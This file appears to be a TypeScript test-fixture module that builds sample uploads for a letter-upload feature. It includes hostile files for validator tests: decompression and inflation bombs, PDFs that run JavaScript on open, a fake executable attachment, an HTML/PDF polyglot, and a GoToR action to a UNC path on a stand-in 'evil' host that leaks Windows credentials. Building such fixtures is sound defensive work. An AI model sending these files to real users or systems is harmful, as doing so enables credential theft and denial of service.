import sharp from 'sharp';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { makeAuthorisationLetterPdf } from '../demo/index.ts';

export const pdfLetter = () => makeAuthorisationLetterPdf('Test Agency', 'Test Person');

export const pngLetter = () =>
  sharp({ create: { width: 400, height: 300, channels: 3, background: { r: 250, g: 250, b: 245 } } }).png().toBuffer();

export const jpegLetter = () =>
  sharp({ create: { width: 400, height: 300, channels: 3, background: { r: 250, g: 250, b: 245 } } }).jpeg().toBuffer();

/** A PNG of 20,000 × 20,000 pixels that compresses to a few hundred kilobytes: a decompression bomb. */
export const pngBomb = () =>
  sharp({ create: { width: 20_000, height: 20_000, channels: 3, background: '#ffffff' }, limitInputPixels: false }).png({ compressionLevel: 9 }).toBuffer();

/** A PDF whose document opens with JavaScript. */
export async function pdfWithJavaScript(): Promise<Buffer> {
  const pdf = await PDFDocument.load(await pdfLetter());
  const action = pdf.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("hi")') });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  return Buffer.from(await pdf.save());
}

/** A PDF that says it is encrypted. */
export async function pdfEncrypted(): Promise<Buffer> {
  const pdf = await PDFDocument.load(await pdfLetter());
  const encrypt = pdf.context.obj({ Filter: 'Standard', V: 1, R: 2, O: PDFString.of('x'), U: PDFString.of('y'), P: -4 });
  pdf.context.trailerInfo.Encrypt = pdf.context.register(encrypt);
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

export function letterForm(fields: Record<string, string>, letter?: { bytes: Buffer; name: string; type?: string }): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  if (letter) form.append('letter', new Blob([new Uint8Array(letter.bytes)], { type: letter.type ?? 'application/octet-stream' }), letter.name);
  return form;
}

/** Opens the document by running JavaScript from an inline action dictionary (no indirect object). */
export async function pdfWithInlineJavaScript(): Promise<Buffer> {
  const pdf = await PDFDocument.load(await pdfLetter());
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
  return Buffer.from(await pdf.save());
}

/** Carries a program as an attachment. */
export async function pdfWithAttachment(): Promise<Buffer> {
  const pdf = await PDFDocument.load(await pdfLetter());
  await pdf.attach(Buffer.from('MZ fake program'), 'setup.exe', { mimeType: 'application/octet-stream' });
  return Buffer.from(await pdf.save());
}

/** Opens a file on another machine (GoToR to a UNC path leaks Windows credentials). */
export async function pdfWithRemoteGoTo(): Promise<Buffer> {
  const pdf = await PDFDocument.load(await pdfLetter());
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj({ S: 'GoToR', F: PDFString.of('\\\\evil\\share\\x.pdf'), D: [0, 'Fit'] }));
  return Buffer.from(await pdf.save());
}

/** A small PDF holding a stream that inflates to 200 MB. */
export async function pdfInflationBomb(): Promise<Buffer> {
  const pdf = await PDFDocument.load(await pdfLetter());
  const stream = pdf.context.flateStream(new Uint8Array(200 * 1024 * 1024));
  pdf.catalog.set(PDFName.of('Padding'), pdf.context.register(stream));
  return Buffer.from(await pdf.save());
}

/** An HTML page with a PDF appended: a polyglot that browsers may render as HTML. */
export async function htmlPdfPolyglot(): Promise<Buffer> {
  return Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>\n'), await pdfLetter()]);
}
